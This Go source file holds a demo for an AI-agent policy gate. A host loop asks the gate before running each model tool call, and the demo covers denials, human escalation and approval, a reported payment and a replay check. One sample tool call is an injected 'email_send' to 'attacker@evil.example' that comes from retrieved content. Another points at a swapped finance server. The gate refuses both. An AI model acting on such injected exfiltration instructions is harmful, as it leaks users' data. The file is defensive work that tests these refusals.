package main

import (
	"encoding/json"
	"fmt"
	"net/http"
	"slices"
	"strings"

	"github.com/actgate/actgate/internal/ef"
	"github.com/actgate/actgate/internal/fileutil"
	"github.com/actgate/actgate/internal/gateconfig"
	"github.com/actgate/actgate/internal/hostloop"
	"github.com/actgate/actgate/internal/standalone"
)

// demoHostSession is the host loop's conversation in the demo.
const demoHostSession = "host-conv-1"

// hostLoopAct is the demo's host-loop act: an Anthropic-shaped host loop (it holds tool_use
// blocks exactly as the Messages API returns them and runs the tools itself) asks serve's
// /v1/enforce before each run (docs/api.md "Host loops (/v1/enforce, /v1/complete)"): a deny
// it hands back to the model, an escalation it waits on by re-enforcing the same block, alice's
// resolution, one run reported with /v1/complete, and a replay that does not run again.
func (d *demoRun) hostLoopAct(base string, cfg *gateconfig.Config, alice *apiClient) error {
	tok, err := fileutil.ReadToken(cfg.AgentTokenPath(cfg.Agent.Name))
	if err != nil {
		return fmt.Errorf("the agent's token: %w", err)
	}
	h := &hostLoopClient{base: base, token: tok, http: &http.Client{}}
	// The host's own tools: here the sample server's, called with the host's credential (a host
	// loop is the executor of its tools; the gate decides before each run).
	hostTools := &http.Client{Transport: bearerTransport{token: demoUpstreamToken, base: http.DefaultTransport}}
	enforceAt := func(block json.RawMessage, provenance, destination string) (hostloop.Decision, bool) {
		return d.hostEnforce(h, block, provenance, destination)
	}
	enforce := func(block json.RawMessage, provenance string) (hostloop.Decision, bool) {
		return enforceAt(block, provenance, "")
	}
	paymentsBefore := d.up.Count("send_payment")

	d.header("HOST LOOP an Anthropic-shaped host loop runs its tools through POST /v1/enforce (the agent's token)")
	d.line("the model's turn holds tool_use blocks as the Messages API returns them; the host asks")
	d.line("the gate before each one and hands a refusal back as the tool_result the model reads")
	email := json.RawMessage(`{"type":"tool_use","id":"toolu_01Hx","name":"email_send","input":{"to":"attacker@evil.example","subject":"statement"}}`)
	dec, ok := enforce(email, "retrieval")
	d.check(ok && !dec.Allow && dec.Code == ef.EFInstructionProvenanceFailure, "host email_send: want %s, got %q", ef.EFInstructionProvenanceFailure, dec.Code)
	d.line("tool_result for the model: %s", dec.Deny)
	d.check(strings.Contains(string(dec.Deny), `"tool_use_id":"toolu_01Hx"`) && strings.Contains(string(dec.Deny), `"is_error":true`),
		"the deny is not an Anthropic tool_result for toolu_01Hx")
	d.expectCount("email_send", 0)
	// tool-use-binding §22 T-D: the host's MCP client now reaches another server than the
	// policy's finance URL; the host names the URL it is about to contact and the gate refuses it.
	balances := d.up.Count("get_balance")
	dec, ok = enforceAt(json.RawMessage(`{"type":"tool_use","id":"toolu_01Sw","name":"get_balance","input":{"account":"ops"}}`), "user",
		"https://finance-mirror.example/mcp")
	d.check(ok && !dec.Allow && dec.Code == ef.EFDestinationMismatch, "host get_balance at a swapped server: want %s, got %q", ef.EFDestinationMismatch, dec.Code)
	d.expectCountSince("get_balance", balances, 0)

	d.header("HOST LOOP a payment escalates; the host waits by re-enforcing the same block (no new moment)")
	pay := json.RawMessage(`{"type":"tool_use","id":"toolu_01Py","name":"send_payment","input":{"to":"carol","amount":300}}`)
	esc, ok := enforce(pay, "user")
	d.check(ok && esc.Code == ef.EFEscalationRequired && len(esc.BindingMoments) == 1, "host send_payment: want %s with a moment, got %q", ef.EFEscalationRequired, esc.Code)
	if len(esc.BindingMoments) != 1 {
		return nil
	}
	before, err := alice.Moments(d.ctx, false)
	if err != nil {
		return err
	}
	poll, ok := enforce(pay, "user")
	d.check(ok && poll.Code == ef.EFEscalationRequired && len(poll.BindingMoments) == 1 && poll.BindingMoments[0] == esc.BindingMoments[0],
		"the poll raised another moment: %v", poll.BindingMoments)
	after, err := alice.Moments(d.ctx, false)
	if err != nil {
		return err
	}
	d.line("the poll answers the same binding moment %s; alice's pending moments: %d before the poll, %d after",
		esc.BindingMoments[0], len(before), len(after))
	d.check(len(after) == len(before) && slices.ContainsFunc(after, func(m standalone.MomentJSON) bool { return m.ID == esc.BindingMoments[0] }),
		"polling changed alice's pending moments from %d to %d", len(before), len(after))
	d.expectCountSince("send_payment", paymentsBefore, 0)

	d.header("RESOLVE   alice chooses option 1 for the host loop's payment")
	res, err := alice.Resolve(d.ctx, esc.BindingMoments[0], fmt.Appendf(nil,
		`{"binding_moment_resolution":{"envelope_digest":%q,"resolution":"option","option_idx":0}}`, esc.EnvelopeDigest))
	if err != nil {
		return err
	}
	d.line("alice → option 1: authority %s issued for exactly send_payment {\"amount\":300,\"to\":\"carol\"}", res.AuthorityID)
	d.check(res.AuthorityID != "" && !res.Pending, "resolution did not issue authority: %+v", res)

	d.header("HOST LOOP the next re-enforce is the allow: the host runs the tool once and reports the outcome")
	run, ok := enforce(pay, "user")
	d.check(ok && run.Allow && run.OperationID != "", "the authorised host call was not allowed: %+v", run)
	if run.Allow && run.OperationID != "" {
		result, err := runTool(d.ctx, d.up.URL, hostTools, "send_payment", json.RawMessage(`{"to":"carol","amount":300}`))
		outcome := hostloop.HostExecuted
		if err != nil {
			outcome, result = hostloop.HostFailed, nil
		}
		d.line("host  ran send_payment: %s", result)
		cr, err := h.complete(d.ctx, hostloop.CompleteRequest{OperationID: run.OperationID, Outcome: outcome, Result: result})
		d.check(err == nil && cr.State == "EXECUTED", "complete: %+v %v", cr, err)
		d.line("host  → POST /v1/complete %s %s; gate ← %s", run.OperationID, outcome, cr.State)
	}
	d.expectCountSince("send_payment", paymentsBefore, 1)

	d.header("HOST LOOP the host replays the turn: the same block is answered from the journal")
	re, ok := enforce(pay, "user")
	d.check(ok && re.Replayed && !re.Allow, "the host's retry was not answered from the journal: %+v", re)
	d.expectCountSince("send_payment", paymentsBefore, 1)
	return nil
}

// hostEnforce is one /v1/enforce of the demo's host loop, printed with the gate's answer; a
// destination, when given, is the URL the host is about to contact (docs/api.md
// "Destinations (T-D, T-E)").
func (d *demoRun) hostEnforce(h *hostLoopClient, block json.RawMessage, provenance, destination string) (hostloop.Decision, bool) {
	if destination != "" {
		d.line("host  → POST /v1/enforce %s, destination %s", block, destination)
	} else {
		d.line("host  → POST /v1/enforce %s", block)
	}
	dec, err := h.enforce(d.ctx, hostloop.EnforceRequest{Vendor: hostloop.HostAnthropic, Block: block, Session: demoHostSession, Provenance: provenance,
		Destination: destination})
	if err != nil {
		d.errs = append(d.errs, fmt.Errorf("step %d: enforce: %w", d.step, err))
		return dec, false
	}
	switch {
	case dec.Allow && dec.OperationID != "":
		d.line("gate  ← allow: authority %s consumed, dispatch %s journaled %s", dec.AuthorityID, dec.OperationID, dec.State)
	case dec.Allow:
		d.line("gate  ← allow")
	case dec.Replayed:
		d.line("gate  ← replayed, not to run again; the recorded result: %s", dec.Result)
	default:
		d.line("gate  ← refused, not run: %s: %s", dec.Code, dec.Message)
	}
	return dec, true
}
